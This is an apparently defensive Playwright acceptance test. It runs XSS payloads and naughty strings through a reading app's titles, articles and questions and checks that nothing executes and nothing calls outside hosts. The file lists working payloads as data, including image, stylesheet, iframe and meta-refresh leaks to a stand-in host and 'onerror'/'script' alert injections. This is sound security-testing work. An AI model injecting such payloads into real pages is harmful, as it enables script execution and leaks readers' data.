"""Hostile strings as question, title, article and file name, in Chromium: `python -m tests.acceptance.xss`.

Every element that a page shows is hovered, focused and clicked by script, which runs whatever handler it has. Nothing
may run, no policy may have had to stop it, and nothing outside may be asked for. The control is such strings, written
raw into pages without a policy: the same detectors must fire.
"""

import http.server
import json
import sys
import tempfile
import threading
from collections import Counter
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import Browser, Dialog, Page, sync_playwright
from playwright.sync_api import Error as BrowserError

from pullquote.articles import make_article
from pullquote.errors import PullquoteError
from pullquote.library import Library
from pullquote.settings import MAX_QUESTION
from tests.acceptance import SIZE
from tests.acceptance.visitors import add_none
from tests.building import put_embedded
from tests.conftest import CHROMIUM, FLAGS, SHARED
from tests.serving import serving

SAMPLE = {"full": 10**6, "ci": 120}[SIZE]
IN_A_LIBRARY = 400  # titles at a time: Gradio's page lists them all
IN_AN_ARTICLE = 50
PATIENCE = 120_000  # milliseconds
# What fetches without a script: an article's text must not make a reader's browser call anybody.
LEAKS = (
    "![x](http://127.0.0.2:9/md?q=secret)",
    '<img src="http://127.0.0.2:9/img">',
    '<p style="background:url(http://127.0.0.2:9/style)">styled</p>',
    '<svg><image href="http://127.0.0.2:9/svg"/></svg>',
    '<video src="http://127.0.0.2:9/video" autoplay></video>',
    "<style>@import url(http://127.0.0.2:9/import);</style>",
    '<iframe src="http://127.0.0.2:9/frame"></iframe>',
    '<link rel="stylesheet" href="http://127.0.0.2:9/link">',
    '<object data="http://127.0.0.2:9/object"></object>',
    '<form action="http://127.0.0.2:9/form"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://127.0.0.2:9/meta">',
)
DETECTORS = """
window.__ran = [];
for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = (...all) => { window.__ran.push(name); };
document.addEventListener("securitypolicyviolation", (event) => {
  if (event.effectiveDirective.startsWith("script") && event.sourceFile !== "") window.__ran.push(event.blockedURI);
});
"""
TOUCH = """
() => {
  const stay = (event) => {
    const link = event.target.closest?.("a[href]");
    if (link && !/^\\s*(javascript|data|vbscript):/i.test(link.getAttribute("href"))) event.preventDefault();
  };
  addEventListener("click", stay, true);
  addEventListener("submit", (event) => event.preventDefault(), true);
  const all = [...document.body.querySelectorAll("*")];
  for (const one of all) {
    for (const kind of ["mouseover", "mouseenter", "mousemove", "pointerover", "focus", "focusin", "mousedown", "wheel",
                        "animationstart", "transitionend", "toggle"]) {
      one.dispatchEvent(new Event(kind, { bubbles: kind !== "focus" }));
    }
    one.focus?.();
    if (!one.matches("button, [role=button], input[type=file], label, summary")) one.click?.();
  }
  return all.length;
}
"""


class Watch:
    """A page, what ran in it, and whom it asked."""

    def __init__(self, browser: Browser, own: str) -> None:
        self.found = Counter[str]()
        self.examples = list[str]()
        context = browser.new_context()
        context.add_init_script(DETECTORS)
        self.page: Page = context.new_page()
        self.page.set_default_timeout(PATIENCE)
        self.page.on("dialog", self._dismiss)
        self.page.on("request", lambda request: self._request(request.url, own))
        self.page.on("popup", lambda popup: self._note("outside", popup.url))

    def touch(self) -> None:
        """Hover, focus and click all that is there; then what ran is counted."""
        self.found["elements"] += self.page.evaluate(TOUCH)
        self.page.wait_for_timeout(150)
        for name in self.page.evaluate("() => window.__ran.splice(0)"):
            self._note("ran", name)

    def _dismiss(self, dialog: Dialog) -> None:
        self._note("ran", dialog.message)
        dialog.dismiss()

    def _request(self, url: str, own: str) -> None:
        if urlsplit(url).scheme in {"http", "https", "ws", "wss", "ftp"} and urlsplit(url).netloc != own:
            self._note("outside", url)

    def _note(self, kind: str, what: str) -> None:
        self.found[kind] += 1
        self.examples.append(f"{kind}: {what[:80]}")


def strings() -> list[str]:
    """The payloads and the naughty strings; in a sample, every so many."""
    corpora = SHARED / "corpora"
    payloads = corpora.joinpath("xss-payloads.txt").read_text(errors="replace").splitlines()
    every = [*filter(str.strip, payloads), *json.loads(corpora.joinpath("naughty-strings.json").read_text())]
    step = max(1, len(every) // SAMPLE)
    return [*LEAKS, *every[::step]]


def fill(folder: Path, part: Sequence[str]) -> tuple[int, list[str]]:
    """A library in which each string is a title and a source, and stands in an article; the ids of these articles."""
    library, titles, ids = Library(folder), 0, list[str]()
    add_none(library)
    for start in range(0, len(part), IN_AN_ARTICLE):
        body = "\n\n".join(["The lighthouse of Ristna was built in 1874.", *part[start : start + IN_AN_ARTICLE]])
        article = make_article(body, title=f"Strings {start}")
        put_embedded(library, article)
        ids.append(article.id)
    for number, text in enumerate(part):
        try:
            put_embedded(library, make_article(f"Note number {number} says little.", title=text, name=text))
            titles += 1
        except PullquoteError:  # an empty title names nothing
            continue
    library.close()
    return titles, ids


def questions(part: Sequence[str]) -> Iterator[str]:
    """The strings as questions, as many in one as there is room for."""
    asked = ""
    for text in part:
        line = text[: MAX_QUESTION - 1]
        if asked and len(asked) + len(line) >= MAX_QUESTION:
            yield asked
            asked = ""
        asked += line + "\n"
    yield asked


def look(browser: Browser, part: Sequence[str]) -> tuple[Counter[str], list[str]]:
    """All pages over a library of these strings, and the strings asked."""
    with tempfile.TemporaryDirectory() as folder:
        titles, ids = fill(Path(folder), part)
        with serving(Path(folder), reader="fast") as server:
            watch = Watch(browser, urlsplit(server.url).netloc)
            page = watch.page
            for path in ("/read", "/articles", *(f"/articles/{key}" for key in ids)):
                page.goto(server.url + path)
                if path == "/articles":
                    page.locator("#table tbody tr").first.wait_for()
                watch.touch()
                watch.found["pages"] += 1
            page.goto(server.url)
            for asked in ["When was the lighthouse of Ristna built?", *questions(part)]:
                box = page.locator("#question textarea")
                before = page.locator('[data-testid="bot"]').count()
                box.fill(asked)
                box.press("Enter")
                page.wait_for_function(
                    "(before) => { const bots = document.querySelectorAll('[data-testid=\"bot\"]');"
                    " return bots.length > before && !/…\\s*$/.test(bots[bots.length - 1].innerText); }",
                    arg=before,
                )
                watch.found["questions"] += 1
                if watch.found["questions"] % 20 == 1:
                    watch.touch()
                    page.goto(server.url)
            watch.touch()
            page.context.close()
    watch.found["titles"] = titles
    return watch.found, watch.examples


@contextmanager
def raw(part: Sequence[str]) -> Iterator[str]:
    """The address of a page with the strings written into it as they are, and no policy."""
    body = ("<!doctype html><meta charset=utf-8>" + "\n".join(part)).encode(errors="replace")

    class Raw(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(body if self.path == "/" else b"")

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Raw) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()


def control(browser: Browser) -> Counter[str]:
    """What the detectors find where nothing is escaped."""
    found = Counter[str]()
    touched = ["<p onmouseover=alert(2)>x</p>", "<b tabindex=1 onfocus=alert(3)>x</b>"]
    hostile = [LEAKS[1], "<img src=x onerror=alert(1)>", *touched]
    for part in (hostile, ['<a href="javascript:alert(4)">x</a>'], ["<script>alert(5)</script>"]):
        with raw(part) as url:
            watch = Watch(browser, urlsplit(url).netloc)
            try:
                watch.page.goto(url)
                watch.touch()
            except BrowserError:  # a payload may have navigated away
                watch.found["ran"] += 1
            found += watch.found
            watch.page.context.close()
    return found


def main() -> int:
    every, found, examples = strings(), Counter[str](), list[str]()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        for start in range(0, len(every), IN_A_LIBRARY):
            counts, seen = look(browser, every[start : start + IN_A_LIBRARY])
            found, examples = found + counts, examples + seen
            sys.stdout.write(f"{start + IN_A_LIBRARY}: {dict(found)}\n")
        fired = control(browser)
        browser.close()
    sys.stdout.write(
        f"{len(every)} strings as question, title, article and file name; {dict(found)}; executions "
        f"{found['ran']}, outside requests {found['outside']} {examples[:5]}; control: {dict(fired)}\n"
    )
    return 0 if not found["ran"] and not found["outside"] and fired["ran"] >= 5 and fired["outside"] else 1


if __name__ == "__main__":
    sys.exit(main())
